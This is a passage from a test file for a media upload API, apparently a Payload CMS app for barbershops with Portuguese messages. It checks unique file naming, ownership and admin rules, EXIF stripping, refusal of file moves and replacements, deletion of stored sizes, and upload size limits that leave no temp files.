      expect(errorMessage(traversal.body)).toBe(mediaMessages.filenameInvalid)
    })

    it('names every file apart, even 20 sent by one user at the same moment', async () => {
      const bytes = await pngWithGps()
      const responses = await Promise.all(
        Array.from({ length: 20 }, () => upload(client.shop, { bytes, name: 'foto.png', type: 'image/png', payload: { folder: 'shop-photos' } })),
      )
      expect(responses.map((response) => response.status)).toEqual(Array(20).fill(201))
      const docs = responses.map((response) => response.body.doc)
      // A small photo's `card` and `full` sizes are the same file; no file is shared between uploads.
      const names = docs.flatMap((doc) => [...new Set([doc.filename!, ...sizeFiles(doc)])])
      expect(new Set(names).size).toBe(names.length)
      for (const doc of docs) {
        expect(doc.filename).toMatch(STORED_NAME)
        expect(existsSync(stored(doc))).toBe(true)
      }
    }, 180_000)

    it('lets an admin upload for someone else, into that person’s folder', async () => {
      const response = await upload(client.admin, {
        bytes: await pngWithGps(),
        name: 'logo.png',
        type: 'image/png',
        payload: { folder: 'logos', user: shop.user.id },
      })
      expect(response.status, response.text).toBe(201)
      expect(response.body.doc).toMatchObject({ user: shop.user.id, prefix: `${shop.user.id}/logos` })
      expect(existsSync(stored(response.body.doc))).toBe(true)
    })

    it('applies the same pipeline to trusted server code (Local API)', async () => {
      const bytes = await phoneJpeg()
      const doc = await app.payload.create({
        collection: 'media',
        data: { folder: 'photos', user: otherBarber.user.id, prefix: 'qualquer/lugar' },
        file: { data: bytes, mimetype: 'image/jpeg', name: 'semente.jpg', size: bytes.length },
        depth: 0,
      })
      expect(doc).toMatchObject({ user: otherBarber.user.id, prefix: `${otherBarber.user.id}/photos`, mimeType: 'image/webp', width: 200, height: 400 })
      const metadata = await sharp(stored(doc)).metadata()
      expect([metadata.format, metadata.exif]).toEqual(['webp', undefined])
      await app.payload.delete({ collection: 'media', id: doc.id })
      expect(existsSync(stored(doc))).toBe(false)
    })

    it('never moves or replaces a stored file on update', async () => {
      const doc = (await upload(client.barber, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload: { folder: 'photos' } })).body.doc
      const changes = {
        alt: 'Eu no salão',
        folder: 'logos',
        user: otherBarber.user.id,
        prefix: `${otherBarber.user.id}/logos`,
        filename: 'outro.webp',
        url: 'http://exemplo.invalid',
        duration: 99,
      }
      const updated = await client.barber.patch(`/api/media/${doc.id}`, changes)
      expect(updated.status, updated.text).toBe(200)
      expect(updated.body.doc).toMatchObject({
        alt: 'Eu no salão',
        folder: 'photos',
        user: barber.user.id,
        prefix: doc.prefix,
        filename: doc.filename,
        url: doc.url,
        duration: null,
      })
      expect(existsSync(stored(doc))).toBe(true)

      const replace = await client.barber.request('PATCH', `/api/media/${doc.id}`, {
        body: uploadForm({ bytes: await pngWithGps(), name: 'nova.png', type: 'image/png', payload: {} }),
      })
      expect(replace.status).toBe(400)
      expect(errorMessage(replace.body)).toBe(mediaMessages.replaceNotAllowed)
      expect(existsSync(stored(doc))).toBe(true)
      expect(await tempFiles()).toEqual([])
    })

    it('deletes the file and its sizes from disk with the document', async () => {
      const doc = (await upload(client.barber, { bytes: await phoneJpeg(), name: 'foto.jpg', type: 'image/jpeg', payload: { folder: 'photos' } })).body.doc
      const files = [doc.filename!, ...sizeFiles(doc)].map((filename) => stored(doc, filename))
      expect(files).toHaveLength(4)
      expect(files.every((file) => existsSync(file))).toBe(true)

      expect((await client.otherBarber.delete(`/api/media/${doc.id}`)).status).toBe(403)
      expect(files.every((file) => existsSync(file))).toBe(true)
      expect((await client.barber.delete(`/api/media/${doc.id}`)).status).toBe(200)
      expect(files.filter((file) => existsSync(file))).toEqual([])

      const video = (await upload(client.barber, { bytes: mp4({ seconds: 3 }), name: 'v.mp4', payload: { folder: 'videos' } })).body.doc
      expect((await client.admin.delete(`/api/media/${video.id}`)).status).toBe(200)
      expect(existsSync(stored(video))).toBe(false)
    })
  })
})

describe('with MAX_VIDEO_MB=1 and MAX_IMAGE_MB=1', () => {
  let app: TestApp
  let client: ApiClient

  beforeAll(async () => {
    // A second server in this file: fresh modules so the settings are read again.
    vi.resetModules()
    app = await startTestApp({ MAX_VIDEO_MB: '1', MAX_IMAGE_MB: '1' })
    const barber = await createBarber(app.payload)
    client = new ApiClient(app.url)
    await client.login(barber.email, barber.password)
  }, 180_000)

  afterAll(() => app?.close())

  it('tells the web app the configured limits', async () => {
    const response = await new ApiClient(app.url).get('/api/media-limits')
    expect(response.body).toEqual({ maxImageBytes: 1024 * 1024, maxVideoBytes: 1024 * 1024, maxVideoSeconds: 180 })
  })

  it('refuses a body declared past the limit before reading it, naming the limit, and the client gets that answer', async () => {
    // 20 MB against a 2 MB request limit: the server answers first, then reads and drops the rest.
    for (let attempt = 0; attempt < 3; attempt++) {
      const response = await upload(client, { bytes: new Uint8Array(20 * 1024 * 1024), name: 'enorme.mp4', type: 'video/mp4', payload: { folder: 'videos' } })
      expect(response.status).toBe(413)
      expect(errorMessage(response.body)).toBe('O arquivo passa do limite de 1 MB.')
    }
    expect(await filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))).toEqual([])
  })

  it('cuts a file at the limit while it streams, then refuses it with 413 and no temp file left', async () => {
    // Accounts come with their profile's video: what counts is that this test adds no file.
    const storedBefore = await filesUnder(path.join(app.dataDir, 'media'))
    const response = await upload(client, {
      bytes: mp4({ seconds: 10, mdatBytes: 1536 * 1024 }),
      name: 'grande.mp4',
      type: 'video/mp4',
      payload: { folder: 'videos' },
    })
    expect(response.status).toBe(413)
    expect(errorMessage(response.body)).toBe('O vídeo passa do limite de 1 MB.')
    expect(await filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))).toEqual([])
    expect(await filesUnder(path.join(app.dataDir, 'media'))).toEqual(storedBefore)
  })

  it('refuses a chunked body past the request limit mid-stream and keeps no temp file', async () => {
    // Accounts come with their profile's video: what counts is that this test adds no file.
    const storedBefore = await filesUnder(path.join(app.dataDir, 'media'))
    const encoded = new Response(
      uploadForm({ bytes: mp4({ seconds: 10, mdatBytes: 3 * 1024 * 1024 }), name: 'enorme.mp4', type: 'video/mp4', payload: { folder: 'videos' } }),
    )
    const headers = {
      'content-type': encoded.headers.get('content-type')!,
      accept: 'application/json',
      origin: app.url,
      cookie: `payload-token=${client.cookie('payload-token')}`,
    }
    // The server answers before the client has sent everything, so the client may see the reset first.
    const outcome = await fetch(`${app.url}/api/media`, { method: 'POST', body: encoded.body, duplex: 'half', headers } as RequestInit).then(
      async (response) => ({ status: response.status, message: errorMessage(await response.json()) }),
      () => 'connection reset',
    )
    if (outcome !== 'connection reset') expect(outcome).toEqual({ status: 413, message: genericMessages.bodyTooLarge })
    await vi.waitFor(async () => expect(await filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))).toEqual([]))
    expect(await filesUnder(path.join(app.dataDir, 'media'))).toEqual(storedBefore)
  })
})
